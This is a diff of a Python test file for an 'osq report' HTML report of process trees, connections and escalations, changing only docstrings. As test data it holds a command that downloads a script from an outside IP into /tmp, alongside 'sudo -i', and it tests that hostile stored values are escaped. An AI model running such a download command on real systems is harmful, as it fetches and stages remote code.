@@ -82,7 +82,7 @@ class Elements(HTMLParser):
 
 
 def test_the_report_has_programs_below_who_started_them_and_all_other_sections(page: str) -> None:
-    """Processes are a tree; connections, files, escalations and the reason of an end are there."""
+    """The HTML of `osq report` has the process tree, connections, files and escalations."""
     elements = Elements(page)
     lines = ("-bash", "curl -so /tmp/a.sh http://203.0.113.9/a.sh", "[kworker/0:1]", "sudo -i")
     text = "".join(one for _, one in elements.texts)
@@ -100,7 +100,7 @@ def test_the_report_has_programs_below_who_started_them_and_all_other_sections(p
 
 
 def test_hostile_values_are_text_and_nothing_of_the_page_leads_outside(page: str) -> None:
-    """No value becomes an element or an attribute; controls and bytes are shown as escapes."""
+    """Markup in a stored value is escaped in the HTML report, and its links stay in the page."""
     elements = Elements(page)
     texts = {one for _, one in elements.texts}
     shown = " ".join(one for one in HOSTILE[:4] if isinstance(one, str))
@@ -134,7 +134,7 @@ def contrast(one: str, other: str) -> float:
 
 
 def test_texts_and_graphics_of_both_colour_schemes_have_the_contrast_of_wcag_aa() -> None:
-    """Every ink has 4.5 on every ground that it is used on, and fields of the chart have 3."""
+    """Colours of the report's style have 4.5 to 1 for texts, and 3 to 1 for the chart."""
     light, dark = STYLE.read_text().split("prefers-color-scheme: dark", 1)
 
     assert contrast("#777777", "#ffffff") < 4.5 < contrast("#767676", "#ffffff")
@@ -157,7 +157,7 @@ def test_in_a_browser_every_text_is_legible_and_every_frame_is_reached_by_keyboa
     dark: bool,  # noqa: FBT001 - the value of a parameter of the test
     width: int,
 ) -> None:
-    """Chromium measures the contrasts, the width and the names of regions."""
+    """Chromium shows the report, light, dark, wide and narrow, and measures contrast and width."""
     found = chromium.audit(page, tmp_path, dark=dark, width=width)
 
     assert found["dark"] is dark
@@ -171,7 +171,7 @@ def test_in_a_browser_every_text_is_legible_and_every_frame_is_reached_by_keyboa
 def test_the_browsers_audit_finds_a_faint_text_a_wide_page_and_a_region_without_name(
     page: str, tmp_path: Path
 ) -> None:
-    """The audit reports the faults of a page that has them, so it can fail."""
+    """The measuring in Chromium reports such faults of a bad page, so that it can fail."""
     bad = '<section><p style="color: #999; width: 3000px">x</p></section>'
 
     found = chromium.audit(page.replace("<main", f"{bad}<main"), tmp_path, dark=False, width=1280)
@@ -182,7 +182,7 @@ def test_the_browsers_audit_finds_a_faint_text_a_wide_page_and_a_region_without_
 
 @chromium.needed
 def test_no_hostile_value_runs_in_a_browser(page: str, tmp_path: Path) -> None:
-    """The browser's document has the page's title and no element that a value has made."""
+    """In Chromium's document of the report, no script or image comes from a stored value."""
     file = tmp_path / "report.html"
     file.write_text(page)
 
@@ -200,7 +200,7 @@ def an_interval(begin: int, end: int, **changed: int | str | None) -> Row:
 
 
 def test_gaps_are_intervals_with_losses_and_times_without_any_interval() -> None:
-    """A loss has its number and reason; a time without a session is a gap; the end is not."""
+    """The function gaps_of turns rows of kosquery_stats into gaps with count and reason."""
     window = Window(begin_s=100, end_s=195)
     rows = [
         an_interval(100, 110),
@@ -227,7 +227,7 @@ def test_gaps_are_intervals_with_losses_and_times_without_any_interval() -> None
 
 
 def test_the_window_is_a_span_before_now_or_local_times_and_wrong_ones_are_refused() -> None:
-    """Spans and times are understood; the error for any other text says what was expected."""
+    """The function window_of reads 2h, 30m or a local date; other texts raise UsageError."""
     local = time.strftime("%Y-%m-%d %H:%M", time.localtime(NOW_S - 7200))
 
     assert window_of("2h", None, NOW_S) == Window(begin_s=NOW_S - 7200, end_s=NOW_S)
@@ -241,7 +241,7 @@ def test_the_window_is_a_span_before_now_or_local_times_and_wrong_ones_are_refus
 def test_report_exits_with_1_for_a_folder_that_is_missing_and_with_2_for_a_wrong_window(
     store: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """The error names the file or the option; nothing is left behind."""
+    """`osq report` names the file or the option, and leaves no temporary file behind."""
     words = ("report", "--store", str(store))
     before = sorted(store.parent.iterdir())
 
